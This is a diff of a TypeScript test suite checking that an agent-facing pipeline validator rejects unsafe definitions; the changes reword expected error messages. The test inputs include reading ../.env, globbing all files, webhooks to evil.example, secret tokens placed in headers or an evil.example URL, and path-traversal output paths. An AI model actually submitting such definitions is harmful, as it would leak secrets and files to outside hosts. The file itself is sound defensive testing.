@@ -126,35 +126,38 @@ describe("Tools for agents", () => {
         const write = "  - write: { jsonl: out/evil.jsonl }\n"
         const texts: ReadonlyArray<readonly [text: string, why: string]> = [
           [frame(`${pages}  - use: { module: ./x.ts }\n${write}`), "`use` runs code"],
-          [frame(`${pages}${write}`, "extensions: ./x.ts\n"), "`extensions` is for definitions that a person writes"],
+          [
+            frame(`${pages}${write}`, "extensions: ./x.ts\n"),
+            "`extensions` runs code: that is for definitions that a person writes"
+          ],
           [
             frame(`${pages}${write}`, "notify: [{ on: [failed], webhook: 'https://evil.example' }]\n"),
-            "`notify` is for"
+            "`notify` sends messages"
           ],
-          [frame(`${pages}${write}`, "site: .\n"), "`site` is for"],
-          [frame(`  - read: { file: ../.env }\n${write}`), "`read` reads a file"],
+          [frame(`${pages}${write}`, "site: .\n"), "`site` reads files"],
+          [frame(`  - read: { file: ../.env }\n${write}`), "`read` reads files"],
           [frame(`  - files: { glob: "**/*" }\n${write}`), "`files` reads files"],
-          [frame(`  - browser: { run: ./x.ts }\n${write}`), "`browser` uses a browser profile"],
+          [frame(`  - browser: { run: ./x.ts }\n${write}`), "`browser` opens a browser session"],
           [
             frame(`${pages}  - scrape: { actions: [{ type: executeJavascript, script: "1" }] }\n${write}`),
-            "executeJavascript runs code"
+            "`executeJavascript` runs a script in pages"
           ],
           [
             frame(`  - crawl: { url: "https://example.com", webhook: { url: "https://evil.example" } }\n${write}`),
-            "`webhook` sends rows"
+            'unknown key "webhook"'
           ],
           [
             frame(`${pages}  - scrape: { headers: { authorization: "\${{ secrets.TOKEN }}" } }\n${write}`),
             "may not read the secret TOKEN"
           ],
           [frame(`  - urls: ["https://evil.example/\${{ env.TOKEN }}"]\n${write}`), "may not read the variable TOKEN"],
-          [frame(`${pages}  - join: { file: ../package.json, on: url }\n${write}`), "package.json"],
+          [frame(`${pages}  - join: { file: ../package.json, on: url }\n${write}`), "`file` reads files"],
           [frame(`${pages}  - write: { jsonl: ../../evil.jsonl }\n`), "its outputs have to be out/evil.jsonl"],
           [frame(`${pages}  - write: { jsonl: "${outside}/evil.jsonl" }\n`), "its outputs have to be"],
           [frame(`${pages}  - write: { jsonl: out/prices.jsonl }\n`), "its outputs have to be"],
           [frame(`${pages}  - write: { jsonl: out/evil/../prices.jsonl }\n`), "its outputs have to be"],
           [frame(`${pages}${write}`).replace("name: evil", "name: prices"), "the definition's name has to be evil"],
-          [frame(`${pages}${write}`, "state: { key: prices }\n"), "`state.key` is for"],
+          [frame(`${pages}${write}`, "state: { key: prices }\n"), "`key` shares the state of other pipelines"],
           [frame(`${pages}${write}`).replace("budget: { credits: 5 }\n", ""), "it needs a budget"],
           [frame(`${pages}${write}`, "schedule: { cron: '* * * * *', timezone: UTC }\n"), "a schedule needs a person"],
           ["[1, 2]\n", "a definition is an object"]
